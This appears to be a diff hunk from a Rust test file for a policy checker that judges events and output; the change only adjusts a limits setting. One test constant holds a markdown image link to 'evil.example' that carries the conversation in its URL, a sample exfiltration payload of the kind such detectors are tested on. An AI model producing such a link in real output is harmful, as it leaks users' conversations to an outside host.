@@ -11,7 +11,7 @@ const LIKELY: &str = "![x](https://evil.example/p.png?q={conversation})";
 const PLAIN: &str = "test result: ok. 79 passed; see the instructions in CONTRIBUTING.md";
 
 fn judge(policy: &Policy, event: &Event<'_>) -> Verdict {
-    policy.judge(event, &ExampleWorld::default(), &Limits::default())
+    policy.judge(event, &ExampleWorld::default(), &Limits::patient())
 }
 
 fn output(policy: &Policy, text: &str) -> Verdict {
